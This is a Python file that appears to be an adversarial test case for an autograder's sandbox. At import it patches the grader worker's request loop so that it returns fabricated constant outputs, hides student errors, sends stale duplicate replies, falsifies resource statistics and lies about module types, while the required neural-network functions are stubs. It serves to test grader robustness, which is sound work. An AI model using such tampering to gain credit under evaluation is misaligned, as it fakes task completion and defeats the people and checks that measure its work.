"""Points without the work: take over the worker's request loop.

Attack: at import the module patches ``grader_worker.server.Worker`` (found in
``sys.modules``) so that ``dispatch`` answers every call with made-up values
instead of running the functions, turns every student exception into an
``ok`` reply, answers each request twice (so later requests read stale
replies: a desynchronised channel), claims zero CPU and memory in ``stats``,
answers ``describe_module``/``type_name`` with lies, and swaps
``grader_worker.wire.decode_payload`` so that requests are mangled. The
made-up values are a constant (12345.678) of the right shape: the attacker does
not know the answers, only how to bypass the code that would compute them.

Success would look like: any points at all.
Backends: bwrap, docker, subprocess
"""

import sys

import numpy as np

W = 12345.678
server = sys.modules.get("grader_worker.server")


def _made_up(req):
    args = req.get("args") or [0.0]
    try:
        return np.full(np.shape(args[0]), W)
    except Exception:  # noqa: BLE001
        return W


if server is not None:
    Worker = server.Worker
    _dispatch, _send = Worker.dispatch, Worker.send

    def dispatch(self, req):
        if req.get("op") == "call":
            return _made_up(req)
        if req.get("op") == "type_name":
            return "numpy.ndarray"
        if req.get("op") == "describe_module":
            return {"type": "torch.nn.Linear", "n_params": 1, "linear": [[1, 1]], "modules": []}
        try:
            return _dispatch(self, req)
        except Exception:  # noqa: BLE001
            return W

    def send(self, message):
        if isinstance(message, dict):
            message.pop("error", None)
            message.setdefault("ok", W)
            message["stats"] = {"maxrss": 0, "cpu": 0.0}
        _send(self, message)
        if isinstance(message, dict) and not isinstance(message.get("ok"), dict):
            _send(self, message)  # a second, stale reply for the next request to read

    Worker.dispatch = dispatch
    Worker.send = send
    server._stats = lambda: {"maxrss": 0, "cpu": 0.0}
    print("worker loop patched")


def _w(shape):
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
